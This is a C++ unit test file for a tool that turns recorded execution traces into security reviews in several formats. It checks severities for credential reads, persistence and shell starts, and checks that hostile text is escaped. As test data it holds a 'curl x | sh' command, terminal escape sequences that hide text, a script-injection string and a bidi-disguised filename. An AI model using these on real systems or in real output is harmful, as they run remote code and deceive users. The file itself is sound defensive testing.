// The review's formats: the sample tool's review (text, JSON, SARIF, Markdown, HTML) from traces
// shaped like the recorders write, the incomplete inventory said in every format, and hostile text
// (newlines, terminal sequences, markup, invalid UTF-8, huge argv) shown escaped in every format.
#include "nucleus/profile/review.hpp"

#include "nucleus/profile/sarif.hpp"
#include "nucleus/core/io.hpp"

#include "test_support.hpp"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <cctype>
#include <map>

using namespace nucleus;

namespace {

// The sample tool's traces (samples/sidetrip.cpp), written by hand in the recorders' shape: with
// every side trip, and with none. The severity test takes recorded ones too:
// NUCLEUS_SIDETRIP_TRACE=path (every side trip) and NUCLEUS_SIDETRIP_CLEAN_TRACE=path (none).
profile::NamedTrace hand_written(const std::string& name) {
  auto path = test::source_dir() / "tests/profilegen/data/review" / name;
  return {path.string(), core::read_trace(core::read_file(path), path.string())};
}

profile::NamedTrace sidetrip_trace(const std::string& name) {
  const char* real =
      std::getenv(name == "sidetrip-all.trace" ? "NUCLEUS_SIDETRIP_TRACE" : "NUCLEUS_SIDETRIP_CLEAN_TRACE");
  if (real == nullptr) return hand_written(name);
  return {real, core::read_trace(core::read_file(real), real)};
}

const profile::SarifTool tool{"nucleus-profile", "0.1.0", "https://example.org/nucleus"};

// Every format of a review, by name.
std::map<std::string, std::string> all_formats(const profile::Review& r) {
  return {{"text", profile::format_review_text(r)},
          {"json", profile::review_to_json(r)},
          {"sarif", profile::review_to_sarif(r, tool)},
          {"md", profile::render_review_markdown(r)},
          {"html", profile::render_review_html(r)}};
}

std::map<std::string, profile::Severity> by_id(const profile::Review& r) {
  std::map<std::string, profile::Severity> out;
  for (const auto& f : r.findings) out[f.id] = std::max(out.count(f.id) ? out[f.id] : f.severity, f.severity);
  return out;
}

} // namespace

TEST(ReviewSample, EverySideTripIsNamedWithItsSeverity) {
  auto r = profile::review_traces({sidetrip_trace("sidetrip-all.trace")});
  auto found = by_id(r);
  using S = profile::Severity;
  EXPECT_GE(found["credential-read"], S::high); // --read-key
  EXPECT_GE(found["persistence"], S::high);     // --persist
  EXPECT_GE(found["write-temp"], S::low);       // --write-tmp
  // --connect: public in the hand-written trace; a recorded run may connect to loopback.
  EXPECT_TRUE(found.count("network-public") + found.count("network-private") + found.count("network-loopback") > 0);
  EXPECT_GE(found["dns-query"], S::medium);     // --dns
  EXPECT_GE(found["shell-started"], S::medium); // --shell
  EXPECT_GE(found["user-namespace"], S::high);  // --userns
  EXPECT_EQ(profile::review_exit_code(r, S::low), 5);
  EXPECT_EQ(profile::review_exit_code(r, S::critical), 0);
  EXPECT_TRUE(r.incomplete.empty());

  auto clean = profile::review_traces({sidetrip_trace("sidetrip-clean.trace")});
  for (const auto& f : clean.findings) EXPECT_LE(f.severity, S::low) << f.id << ": " << f.message;
  EXPECT_EQ(profile::review_exit_code(clean, S::medium), 0);
  // Its inventory still shows what it did: the file it counted.
  ASSERT_FALSE(clean.executables.empty());
  bool counted = false;
  for (const auto& inv : clean.executables)
    for (const auto& f : inv.reads) counted = counted || f.path.ends_with("/notes.txt");
  EXPECT_TRUE(counted);
}

TEST(ReviewSample, EveryFormatCarriesTheInventoryAndFindings) {
  auto r = profile::review_traces({hand_written("sidetrip-all.trace")});
  for (auto [format, out] : all_formats(r)) {
    std::erase(out, '\\'); // Markdown's escapes
    for (const char* needle : {"credential-read", "persistence", "user-namespace", "dns-query"})
      EXPECT_NE(out.find(needle), std::string::npos) << format << " lacks " << needle;
    if (format == "sarif") continue; // findings only: the inventory is not a result
    for (const char* needle : {"id_ed25519", ".bashrc", "203.0.113.7", "192.0.2.53", "echo hi", "CLONE_NEWUSER"})
      EXPECT_NE(out.find(needle), std::string::npos) << format << " lacks " << needle;
  }
  auto j = nlohmann::json::parse(profile::review_to_json(r));
  EXPECT_EQ(j["highest"], "high");
  EXPECT_TRUE(j["complete"].get<bool>());
  for (const auto& f : j["findings"])
    for (const char* key : {"severity", "id", "subject", "arches", "message", "reason", "fix", "exe"})
      EXPECT_TRUE(f.contains(key)) << key << " (check --format json's shape, plus exe)";
  auto sarif = nlohmann::json::parse(profile::review_to_sarif(r, tool));
  EXPECT_EQ(sarif["version"], "2.1.0");
  EXPECT_EQ(sarif["runs"][0]["results"].size(), r.findings.size());
  EXPECT_EQ(sarif["runs"][0]["results"][0]["level"], "error");
  EXPECT_EQ(sarif["runs"][0]["tool"]["driver"]["rules"][0]["id"].get<std::string>().rfind("review/", 0), 0u);
}

TEST(ReviewFormats, AnIncompleteInventoryIsSaidInEveryFormat) {
  auto t = hand_written("sidetrip-all.trace");
  t.trace.summary->behaviour_dropped = 41;
  auto r = profile::review_traces({t});
  for (auto [format, out] : all_formats(r)) {
    EXPECT_NE(out.find("41 behaviour record"), std::string::npos) << format;
    std::transform(out.begin(), out.end(), out.begin(),
                   [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
    EXPECT_NE(out.find("incomplete"), std::string::npos) << format;
  }
  EXPECT_FALSE(nlohmann::json::parse(profile::review_to_json(r))["complete"].get<bool>());
  EXPECT_FALSE(
      nlohmann::json::parse(profile::review_to_sarif(r, tool))["runs"][0]["properties"]["complete"].get<bool>());
  // A trace without behaviour records says so in every format.
  auto audit = t;
  audit.trace.header.behaviour = false;
  audit.trace.header.source = "audit-netlink";
  audit.trace.execs.clear();
  audit.trace.files.clear();
  audit.trace.nets.clear();
  audit.trace.summary->behaviour_dropped = 0;
  for (const auto& [format, out] : all_formats(profile::review_traces({audit})))
    EXPECT_NE(out.find("were not recorded"), std::string::npos) << format;
}

TEST(ReviewFormats, HostileTextIsShownEscapedInEveryFormat) {
  core::Trace t;
  t.header = {{"./tool"}, "ebpf", "6.1.0", "2026-12-07T09:00:00Z", ""};
  t.header.behaviour = true;
  t.header.workspace = {"/w"};
  t.summary = core::TraceSummary{1, 1, 0, 0, 1, 0};
  // No slash after ".ssh/": the last component still starts with id_, so the key rule fires on it.
  const std::string evil_path =
      "/home/u/.ssh/id_rsa\n{\"type\":\"file\"}\x1b]0;pwned\x07\x1b[2J<script>alert(1)|**x**\xff\xfe";
  const std::string bidi = "/tmp/\u202egnp.exe"; // right-to-left override: hides the real name
  t.files.push_back({"/opt/t\x1b[31m", "openat", evil_path, static_cast<core::FileAccessSet>(core::FileAccess::read),
                     "", core::Outcome::ok, 1});
  t.files.push_back(
      {"/opt/t", "openat", bidi, static_cast<core::FileAccessSet>(core::FileAccess::write), "", core::Outcome::ok, 1});
  std::vector<std::string> argv{"sh", "-c", "curl x | sh\n\x1b[1A# looks harmless"};
  for (int i = 0; i < 16; ++i) argv.push_back(std::string(128, 'A'));
  t.execs.push_back({"/opt/t", "/bin/sh", argv, true, core::Outcome::ok, 1});
  t.nets.push_back({"/opt/t", "connect", "unix", "", "@abstract\n\x1b[2J", -1, core::Outcome::ok, 1});
  auto r = profile::review_traces({{"evil\n.trace", t}});
  ASSERT_FALSE(r.findings.empty());
  for (auto [format, out] : all_formats(r)) {
    EXPECT_EQ(out.find('\x1b'), std::string::npos) << format << ": a raw escape";
    EXPECT_EQ(out.find('\x07'), std::string::npos) << format;
    EXPECT_EQ(out.find("\xff"), std::string::npos) << format << ": invalid UTF-8 passed through";
    EXPECT_EQ(out.find("\u202e"), std::string::npos) << format << ": a bidi override passed through";
    EXPECT_EQ(out.find("id_rsa\n"), std::string::npos) << format << ": the newline in the path was kept";
    if (format == "html" || format == "md") {
      EXPECT_EQ(out.find("<script>"), std::string::npos) << format;
    }
    std::erase(out, '\\'); // Markdown's escapes
    EXPECT_NE(out.find("id_rsa"), std::string::npos) << format << ": the path must still be shown";
  }
  // The JSON formats parse, and their strings carry the escapes, not the bytes.
  auto j = nlohmann::json::parse(profile::review_to_json(r));
  bool shown = false;
  for (const auto& f : j["findings"])
    shown = shown || (f["id"] == "credential-read" &&
                      f["subject"].get<std::string>().find("\\x1b]0;pwned") != std::string::npos);
  EXPECT_TRUE(shown) << j["findings"].dump();
  EXPECT_TRUE(nlohmann::json::accept(profile::review_to_sarif(r, tool)));
  // Markdown: no table cell or heading can be opened from inside.
  auto md = profile::render_review_markdown(r);
  EXPECT_EQ(md.find("|**x**"), std::string::npos);
  EXPECT_EQ(md.find("\n# looks"), std::string::npos);
  // The truncated argv says it was cut short.
  EXPECT_NE(profile::format_review_text(r).find("AAAA ..."), std::string::npos);
}
